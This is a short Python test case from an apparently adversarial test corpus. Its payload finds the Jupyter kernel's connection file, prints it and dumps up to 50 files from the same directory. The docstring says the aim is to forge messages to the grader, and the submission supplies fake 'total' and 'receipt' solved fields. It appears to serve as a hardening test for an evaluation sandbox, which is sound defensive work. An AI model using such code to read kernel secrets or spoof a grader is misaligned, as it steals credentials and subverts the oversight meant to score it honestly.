"""The kernel's connection file, and sockets of the grader to forge messages on. What it finds is
its own, and earns nothing.
"""

from hostile.corpus import Case, Expect, strike

EXPECT = Expect(score=7)

PAYLOAD = """
import os

def show(path):
    try:
        with open(path, "rb") as file:
            print("leak:", path, file.read(2000))
    except OSError as error:
        print(path, error.strerror)

def walk(root):
    found = 0
    for folder, _, names in os.walk(root):
        for name in names:
            show(os.path.join(folder, name))
            found += 1
            if found == 50:
                return

from ipykernel import get_connection_file
try:
    path = get_connection_file()
    show(path)
    walk(os.path.dirname(path))
except Exception as error:
    print(error)
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD, solved=("total", "receipt"))
